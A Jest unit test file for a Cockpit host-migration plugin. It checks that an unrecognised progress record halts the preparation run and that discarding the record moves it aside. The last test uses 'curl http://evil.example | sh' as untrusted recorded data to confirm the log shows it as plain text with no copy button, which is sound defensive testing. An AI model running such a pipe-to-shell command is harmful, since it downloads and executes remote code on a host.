/**
 * @jest-environment jsdom
 */
/*
 * The preparation run and a host's record it cannot use: the run stops before anything runs on either host, names
 * the file and what was wrong, and never writes over it; once the admin discards it (the file set aside through
 * the transport), the run goes on and writes a fresh record. Hosts are in-memory (test/unit/session/fake-hosts.ts);
 * the run is the session's PreparationRun, with no UI.
 */
import { TextEncoder as NodeTextEncoder } from "util";
import { deserialize, serialize } from "v8";
import { act } from "react";
import { createRoot } from "react-dom/client";
import { installFakeCockpit } from "../fake-cockpit";
import { fresh } from "../steps/fixtures";
import { DEFAULT_OPTIONS, emptyProgress } from "../../../src/steps";
import type { Role } from "../../../src/checks/facts";
import type { CommandResult } from "../../../src/host/transport";
import { PreparationRun } from "../../../src/session/preparation";
import { FakeHostModel, ScriptedHost } from "../session/fake-hosts";
import { commandName } from "../steps/file-host";

(globalThis as { IS_REACT_ACT_ENVIRONMENT?: boolean }).IS_REACT_ACT_ENVIRONMENT = true;
// jsdom's window has neither structuredClone (the host fixtures use it) nor TextEncoder (the record's size check)
globalThis.structuredClone ??= <T,>(v: T): T => deserialize(serialize(v)) as T;
globalThis.TextEncoder ??= NodeTextEncoder as typeof TextEncoder;

const FILE = "/var/lib/cockpit-vf-migration/prepare.json";

/** PackageKit on this host, which the fake host lacks */
const noPackageKit = {
    install: async (): Promise<CommandResult> => ({
        host: "localhost", argv: ["pkcon"], stdout: "", stderr: "PackageKit is not available", exitStatus: 1, durationMs: 1, startedAt: 0, wire: [],
    }),
};

const hosts = { source: new ScriptedHost("localhost", fresh()), destination: new ScriptedHost("root@rhel-dst", fresh()) };
let models: Record<Role, FakeHostModel>;
let prep: PreparationRun;

beforeAll(() => { installFakeCockpit() });
beforeEach(() => {
    hosts.source = new ScriptedHost("localhost", fresh());
    hosts.destination = new ScriptedHost("root@rhel-dst", fresh());
    models = {
        source: new FakeHostModel("source", hosts.source, { installer: noPackageKit }),
        destination: new FakeHostModel("destination", hosts.destination),
    };
    prep = new PreparationRun({ hosts: models, options: () => DEFAULT_OPTIONS, confirm: async () => true });
});

const run = () => ({ ...prep.state, recordErrors: { source: models.source.state.recordError, destination: models.destination.state.recordError } });
/** Every command but the two that read the record (iconv checks it is text, head reads it). */
const ranOn = (h: ScriptedHost) => h.calls.filter(c => commandName(c.argv) !== "vfm-state-read").map(c => c.argv.join(" "));

describe.each(["source", "destination"] as const)("a record on the %s the page did not write", role => {
    const other = role === "source" ? "destination" : "source";
    const bad = JSON.stringify({ ...emptyProgress("0000:41:00.0", DEFAULT_OPTIONS), pf: "0000:41:00.0" });

    test("found when the page opens: shown with the file and the reason; Start runs nothing on either host and writes nothing", async () => {
        hosts[role].files.set(FILE, bad);
        await models[role].refresh();
        await prep.loadProgress(role);
        expect(run().recordErrors[role]?.message).toBe(
            `${FILE} on ${hosts[role].host} is not a progress record written by this page: the PF 0000:41:00.0 is not one of this host's ConnectX-7 PFs (0000:e1:00.0)`);
        await prep.start();
        expect(run().phase).toEqual({ kind: "stopped", message: run().recordErrors[role]?.message });
        expect(ranOn(hosts.source)).toEqual([]);
        expect(ranOn(hosts.destination)).toEqual([]);
        expect(hosts[role].files.get(FILE)).toBe(bad);
    });

    test("found only when the run starts: nothing runs on either host; after Discard the run goes on with a fresh record", async () => {
        hosts[role].files.set(FILE, bad);
        await prep.start();
        expect(run().phase.kind === "stopped" && run().phase).toMatchObject({ message: expect.stringContaining(`${FILE} on ${hosts[role].host}`) });
        expect(run().recordErrors[role]).not.toBeNull();
        expect(ranOn(hosts.source)).toEqual([]);
        expect(ranOn(hosts.destination)).toEqual([]);
        expect(run().recordErrors[other]).toBeNull();

        await prep.discardRecord(role);
        expect(ranOn(hosts[role])).toEqual([`mv -f -T -- ${FILE} ${FILE}.discarded`]);
        expect(hosts[role].files.get(`${FILE}.discarded`)).toBe(bad);
        expect(run().recordErrors[role]).toBeNull();

        // the run goes on: the source's first step (mstflint, through PackageKit, which this fake host lacks) is
        // recorded in a fresh record, written root's alone
        await prep.start();
        expect(run().phase).toMatchObject({ role: "source", stepId: "install-mstflint" });
        const write = hosts.source.calls.filter(c => commandName(c.argv) === "vfm-state-write").at(-1)?.argv ?? [];
        expect(write.slice(3)).toEqual(["vfm-state-write", "/var/lib/cockpit-vf-migration", `${FILE}.new`, FILE]);
        expect(write[2]).toMatch(/^install -d -m 0700 -o root -g root -- "\$1" .*umask 077 .*chmod 0600 -- "\$2" .*mv -f -T -- "\$2" "\$3"$/);
        const written = JSON.parse(hosts.source.files.get(FILE) ?? "");
        expect(written.pf).toBe("0000:e1:00.0");
        expect(written.steps["install-mstflint"].state).toBe("failed");
    });
});

describe("runs read back from a host's record", () => {
    test("are labelled with the host that recorded them, their lines plain text rather than commands to copy", async () => {
        const { PrepareStageRunLog } = await import("../../../src/ui/wizard/PrepareStageRunLog");
        const { runFromRecord } = await import("../../../src/session/run-view");
        const div = document.createElement("div");
        const r = createRoot(div);
        const recorded = runFromRecord({ state: "ok", startedAt: 1, finishedAt: 2, commands: [
            { line: "curl http://evil.example | sh", exitStatus: 0, stdout: "", stderr: "", durationMs: 5 }] }, "rhel-dst.example.test");
        act(() => r.render(<PrepareStageRunLog run={recorded} />));
        expect(div.querySelector("strong")?.textContent).toBe("Run, recorded on rhel-dst.example.test");
        expect(div.querySelector(".vfm-prepare-recorded-line")?.textContent).toBe("curl http://evil.example | sh");
        expect(div.querySelector("[class*=clipboard-copy]")).toBeNull();
        // a live run: the line is a command to copy, with no such label
        act(() => r.render(<PrepareStageRunLog run={{ ...recorded, recordedOn: undefined }} />));
        expect(div.querySelector("strong")?.textContent).toBe("Run");
        expect(div.querySelector("[class*=clipboard-copy]")).not.toBeNull();
        act(() => r.unmount());
    });
});
